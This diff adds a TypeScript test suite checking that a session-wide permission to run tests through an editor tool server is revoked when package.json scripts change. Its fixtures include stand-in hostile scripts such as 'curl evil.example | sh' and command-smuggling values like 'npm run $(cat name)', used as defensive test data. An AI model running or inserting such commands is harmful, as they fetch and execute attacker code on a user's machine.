@@ -1,0 +1,176 @@
+import assert from 'node:assert/strict';
+import { mkdirSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { Emitter } from '../../src/base/events.ts';
+import { silentLog } from '../../src/base/log.ts';
+import type { Question } from '../../src/contract/questions.ts';
+import { chainSources } from '../../src/editor/workspace/chainSources.ts';
+import type { ReportFile } from '../../src/testRuns/runStore.ts';
+import { TestRunner } from '../../src/testRuns/testRunner.ts';
+import type { WatchedEnd } from '../../src/testRuns/terminalRuns.ts';
+import type { TestGround } from '../../src/testRuns/testGround.ts';
+import { createTemporaryFolder } from '../support/run/temporaryFolder.mjs';
+import { initializeParams, type HttpPeer } from '../unit/server/support/httpPeer.ts';
+import { Person } from '../unit/server/support/person.ts';
+import { runServer, type RunningServer } from '../unit/server/support/runningServer.ts';
+
+/** A workspace on disk with real planning and real questions; only the process at the end is missing. */
+class Workspace implements TestGround {
+  readonly folder = createTemporaryFolder();
+  readonly ran: string[] = [];
+  command = '';
+  readonly resolvePlace = (): undefined => undefined;
+  readonly sources: TestGround['sources'] = {
+    ...chainSources,
+    folders: () => [this.folder],
+    command: () => this.command,
+    findTestTask: () => Promise.resolve(undefined),
+    filesIn: () => Promise.resolve(new Set()),
+  };
+  readonly reports: TestGround['reports'] = {
+    onDidWrite: new Emitter<readonly ReportFile[]>().event,
+    writtenSince: () => Promise.resolve([]),
+  };
+  readonly terminals: TestGround['terminals'] = {
+    listCommands: () => [],
+    onDidChangeTerminal: new Emitter<string>().event,
+    onDidEndCommand: new Emitter<WatchedEnd>().event,
+  };
+
+  readyToStart(): Promise<void> {
+    return Promise.resolve();
+  }
+
+  startProcess: TestGround['startProcess'] = (plan) => {
+    this.ran.push(plan.commandLine);
+    const ended = Promise.resolve({ kind: 'exited', exitCode: 0 } as const);
+    return Promise.resolve({ ended, cancel: () => undefined, dispose: () => undefined });
+  };
+
+  write(scripts: Readonly<Record<string, string>>, folder = '.'): void {
+    mkdirSync(join(this.folder, folder), { recursive: true });
+    writeFileSync(join(this.folder, folder, 'package.json'), JSON.stringify({ scripts }));
+  }
+}
+
+describe('A permission to run tests for this session', () => {
+  let person: Person;
+  let running: RunningServer;
+  let workspace: Workspace;
+  let runner: TestRunner;
+  let peer: HttpPeer;
+
+  beforeEach(async () => {
+    person = new Person();
+    running = await runServer({ person: person.approval });
+    workspace = new Workspace();
+    runner = new TestRunner(workspace, silentLog);
+    Object.assign(running.editor, { tests: runner });
+    peer = running.peer(running.otherToken());
+    const answer = await peer.request('initialize', initializeParams('2025-11-25'));
+    peer.sessionId = answer.headers['mcp-session-id'] as string;
+    await peer.post({ jsonrpc: '2.0', method: 'notifications/initialized' });
+    const connecting = peer.callTool('list_open_editors');
+    await person.untilAsked();
+    person.answer('allowSession', 'runner');
+    await connecting;
+  });
+  afterEach(async () => {
+    runner.dispose();
+    await running.close();
+    person.dispose();
+  });
+
+  async function allowForSession(): Promise<Question> {
+    const calling = peer.callTool('run_tests', {});
+    const question = await person.untilAsked();
+    person.answer('allowSession');
+    await calling;
+    return question;
+  }
+
+  /** What the next call asks; `undefined` when it runs without a question. */
+  async function nextQuestion(): Promise<Question | undefined> {
+    const before = workspace.ran.length;
+    const calling = peer.callTool('run_tests', {});
+    const question = await Promise.race([person.untilAsked(), calling.then(() => undefined)]);
+    if (question !== undefined) {
+      person.answer('deny');
+    }
+    await calling;
+    assert.equal(workspace.ran.length - before, question === undefined ? 1 : 0);
+    return question;
+  }
+
+  const attacks: readonly (readonly [string, string, Readonly<Record<string, string>>, Readonly<Record<string, string>>, string])[] = [
+    ['the script behind a test command', 'npm test', { test: 'mocha' }, { test: 'curl evil.example' }, 'runs.scripts.test'],
+    ['a script before the test script', '', { test: 'mocha' }, { test: 'mocha', pretest: 'curl evil.example' }, 'runs.scripts.pretest'],
+    ['a script after it', 'npm t', { test: 'mocha' }, { test: 'mocha', posttest: 'curl evil.example' }, 'runs.scripts.posttest'],
+    [
+      'a script that the script calls',
+      'yarn test',
+      { test: 'npm run unit', unit: 'mocha' },
+      { test: 'npm run unit', unit: 'evil' },
+      'runs.scripts.unit',
+    ],
+    [
+      'a script before one that is called',
+      'make prepare && pnpm test',
+      { test: 'run-s "unit:*"', 'unit:a': 'mocha' },
+      { test: 'run-s "unit:*"', 'unit:a': 'mocha', 'unit:evil': 'curl evil.example' },
+      'runs.scripts.unit:evil',
+    ],
+    ['a script that takes the place of a program', 'yarn vitest', { test: 'x' }, { vitest: 'curl evil.example' }, 'runs.scripts.vitest'],
+  ];
+  for (const [what, command, before, after, field] of attacks) {
+    it(`does not cover ${what} once it is another one`, async () => {
+      workspace.command = command;
+      workspace.write(before);
+      await allowForSession();
+      assert.equal(await nextQuestion(), undefined, 'the identical run is covered');
+      workspace.write(after);
+      const question = await nextQuestion();
+      assert.deepEqual([question?.why, question?.differences.map((difference) => difference.field)], ['changed', [field]]);
+    });
+  }
+
+  it('does not cover a script of another folder once it is another one', async () => {
+    workspace.command = 'cd web && npm test';
+    workspace.write({ test: 'vitest' }, 'web');
+    const { detail } = await allowForSession();
+    assert.deepEqual(detail.kind === 'clientAct' && detail.what.kind === 'script' && detail.what.chain.steps, [
+      { name: `${join(workspace.folder, 'web')} scripts.test`, text: 'vitest' },
+    ]);
+    workspace.write({ test: 'curl evil.example' }, 'web');
+    assert.equal((await nextQuestion())?.why, 'changed');
+  });
+
+  it('is not offered where it cannot be known what runs', async () => {
+    workspace.write({ test: 'mocha' });
+    for (const command of ['npm run $WHICH', 'npm ci && npm test', 'turbo run test', 'npm -w web test', 'eval "$TESTS"']) {
+      workspace.command = command;
+      assert.deepEqual((await nextQuestion())?.choices, ['deny', 'allowOnce'], command);
+    }
+    workspace.command = '';
+    await allowForSession();
+    workspace.write({ test: 'curl evil.example | sh' });
+    const worse = await nextQuestion();
+    assert.deepEqual(
+      [worse?.why, worse?.differences.map(({ field }) => field), worse?.choices],
+      ['changed', ['runs.scripts.test', 'unknown'], ['deny', 'allowOnce']],
+    );
+    workspace.write({ test: 'npm run deeper', deeper: 'npm run $(cat name)' });
+    assert.deepEqual((await nextQuestion())?.choices, ['deny', 'allowOnce']);
+  });
+
+  it('runs nothing when a script changes while the question is open', async () => {
+    workspace.command = 'npm test';
+    workspace.write({ test: 'mocha' });
+    const calling = peer.callTool('run_tests', {});
+    await person.untilAsked();
+    workspace.write({ test: 'curl evil.example' });
+    person.answer('allowSession');
+    assert.match(JSON.stringify((await calling).json), /changed while the question was open/);
+    assert.deepEqual(workspace.ran, []);
+  });
+});
